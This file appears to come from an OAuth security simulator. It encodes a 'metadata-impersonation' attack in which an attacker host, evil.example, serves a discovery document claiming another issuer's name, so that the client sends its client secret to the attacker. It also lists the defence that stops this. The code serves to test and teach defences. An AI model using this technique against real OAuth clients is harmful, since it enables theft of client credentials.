"""A discovery document that says it is another server's (RFC 8414 §6.2, OIDC Discovery §4.3)."""

from __future__ import annotations

import json

from mockserver.protocol.client_credentials import basic_header
from oauthsim.attacker import SITE
from oauthsim.attacks.goals import HERS, Evidence, reaching
from oauthsim.attacks.registry import attack
from oauthsim.attacks.servers.second_server import answers_itself, token_response
from oauthsim.scenarios import Step
from oauthsim.scenarios.authorization_code import press
from oauthsim.scenarios.messages import from_to, request_to
from oauthsim.staging import use_identity_provider
from oauthsim.trace import Trace
from oauthsim.world import APP, ISSUER, World


def receives_the_client_secret(trace: Trace, world: World) -> Evidence | None:
    """The secret that the application has at auth.example is sent to Mallory."""
    ours = world.client.registration
    credentials = basic_header(ours.client_id, ours.client_secret or "")
    for message in reaching(trace, *HERS):
        if message.header("Authorization") == credentials:
            return Evidence(message.number, "Mallory is sent the client's secret at auth.example")
    return None


@attack(
    "metadata-impersonation",
    title="Metadata in another server's name",
    spec="RFC 8414 §6.2",
    catalogue=("ATT-75",),
    goal=receives_the_client_secret,
    honest="openid-connect",
    stopped_by=("discovered-issuer-is-the-one-asked",),
    does_not_help=(
        "id-token-issuer-is-the-expected-one",
        "credentials-travel-over-tls",
        "issuer-is-in-the-response",
    ),
    steps=(
        Step("An administrator was talked into another discovery address; Alice signs in", request_to("/")),
        Step("The document is Mallory's, and says that it is auth.example's", from_to("client", "attacker")),
        Step(
            "Its endpoints are Mallory's too: the browser goes there", from_to("resource_owner", "attacker")
        ),
        Step("The client proves who it is, to Mallory", request_to("/token")),
    ),
)
def metadata_impersonation(world: World) -> None:
    """The client asks evil.example for metadata, and believes that they are those of auth.example."""
    document = {
        "issuer": ISSUER,
        "authorization_endpoint": f"{SITE}/authorize",
        "token_endpoint": f"{SITE}/token",
        "jwks_uri": f"{SITE}/jwks",
        "userinfo_endpoint": f"{SITE}/userinfo",
        "response_types_supported": ["code"],
        "subject_types_supported": ["public"],
        "id_token_signing_alg_values_supported": ["RS256"],
    }
    world.mallory.serve(
        "/.well-known/openid-configuration", json.dumps(document), content_type="application/json"
    )
    world.mallory.answer("/authorize", answers_itself)
    world.mallory.answer("/token", token_response)
    use_identity_provider(world, SITE)
    world.browser.open(f"{APP}/")
    press(world, "Sign in with Example")
